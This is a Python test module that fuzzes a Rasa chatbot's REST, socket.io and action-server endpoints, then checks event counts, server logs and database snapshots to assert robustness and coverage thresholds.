def read_events(events_db: Path) -> list[tuple[str, dict]]:
    conn = sqlite3.connect(f"file:{events_db}?mode=ro", uri=True)
    try:
        return [(s, json.loads(d)) for s, d in conn.execute("SELECT sender_id, data FROM events ORDER BY id")]
    finally:
        conn.close()


def reach(events_db: Path, custom: set[str], turns: int) -> dict[str, Any]:
    """From Rasa's event stream: how many user turns the NLU classified, and how many ran a custom action."""
    deadline = time.monotonic() + 60  # the tracker and broker are written behind the reply (bounded wait)
    while True:
        events = read_events(events_db)
        users = sum(1 for _, e in events if e.get("event") == "user")
        if users >= turns or time.monotonic() > deadline:
            break
        time.sleep(0.5)
    classified = ran = 0
    pending: dict[str, bool] = {}  # sender -> the current turn has reached a custom action
    actions: Counter = Counter()
    for sender, e in events:
        if e.get("event") == "user":
            ran += pending.pop(sender, False)
            pending[sender] = False
            classified += bool((e.get("parse_data") or {}).get("intent", {}).get("name"))
        elif e.get("event") == "action" and e.get("name") in custom and sender in pending:
            pending[sender] = True
            actions[e["name"]] += 1
    ran += sum(pending.values())
    return {"user_events": users, "nlu_classified": classified, "turns_reaching_actions": ran,
            "custom_actions_run_in_turns": dict(actions.most_common(12))}


def test_fuzz_public_and_internal_endpoints(fuzz_stack: Any) -> None:
    srv = fuzz_stack
    print(f"fuzz seed {SEED} ({REPLAY})")
    before = snapshot(srv.db_url)
    tally = Tally()
    started = time.monotonic()

    def timed(name: str, step: Callable[[Any, Tally], None]) -> None:
        t0 = time.monotonic()
        step(srv, tally)
        print(f"{name}: {time.monotonic() - t0:.1f} s, {tally.checked} results checked so far")

    # the malformed REST bodies load only the Rasa process and the direct calls only the action
    # server: run side by side, they use both cores; the full turns need both servers, so they follow
    with ThreadPoolExecutor(2) as pool:
        for done in [pool.submit(timed, "REST malformed", run_rest_malformed),
                     pool.submit(timed, "action server", run_action_server)]:
            done.result()
    timed("REST turns", run_rest_turns)
    timed("socket.io", run_socketio)
    elapsed = time.monotonic() - started
    after_turn = requests.post(f"{srv.rasa_url}/webhooks/rest/webhook", json={"sender": "after-fuzz", "message": "hi"},
                               headers={"X-Forwarded-For": "10.255.255.254"}, timeout=REPLY_WAIT_S)

    outcomes = tally.by_target()
    full_turns = sum(n for (target, outcome), n in tally.outcomes.items()
                     if target in ("rest-turn", "socketio") and outcome in ("reply", "paused-silent"))
    registered = set(action_names(srv))
    forms = yaml.safe_load((ROOT / "domain.yml").read_text())["forms"]
    # a form's turn reaches the action server through its validate_<form> action
    custom = registered | {form for form in forms if f"validate_{form}" in registered}
    reached = reach(srv.events_db, custom, full_turns + 1)
    db_problems, added = database_problems(before, snapshot(srv.db_url))
    logs, allowed = log_problems(srv.tmp)
    action_runs = outcomes.get("action-server", {}).get("ran", 0)
    figures = {
        "seed": SEED,
        "checked_results": tally.checked,
        "outcomes": outcomes,
        "status_classes": {str(k): v for k, v in sorted(tally.statuses.items())},
        "full_turns": full_turns,
        **reached,
        "share_of_turns_reaching_actions": round(reached["turns_reaching_actions"] / max(reached["user_events"], 1), 3),
        "direct_action_runs": action_runs,
        "share_of_checked_results_reaching_an_action": round(
            (reached["turns_reaching_actions"] + action_runs) / max(tally.checked, 1), 3),
        "rows_added": added,
        "allowed_log_lines": dict(allowed),
        "seconds": round(elapsed, 1),
        "results_per_s": round(tally.checked / elapsed, 1),
    }
    print("fuzz figures:", json.dumps(figures))
    problems = tally.problems + [f"log: {line}" for line in logs] + [f"database: {d}" for d in db_problems]
    report = srv.tmp / "fuzz-problems.txt"
    report.write_text("\n".join(problems), errors="backslashreplace")
    assert not problems, (f"{len(tally.problems)} bad outcomes, {len(logs)} crash lines in the server logs, "
                          f"{len(db_problems)} database changes ({REPLAY}; all in {report}): "
                          f"{(tally.problems[:5] + logs[:3] + db_problems[:3])}")
    assert tally.checked >= 10_000, figures
    assert full_turns >= 300 and reached["user_events"] >= full_turns, figures  # the turns reached Rasa's NLU
    assert reached["turns_reaching_actions"] >= full_turns // 4, figures
    assert action_runs >= ACTION_CALLS // 2, figures
    assert after_turn.status_code == 200 and not reply_problems(after_turn.json()) and after_turn.json(), \
        after_turn.text
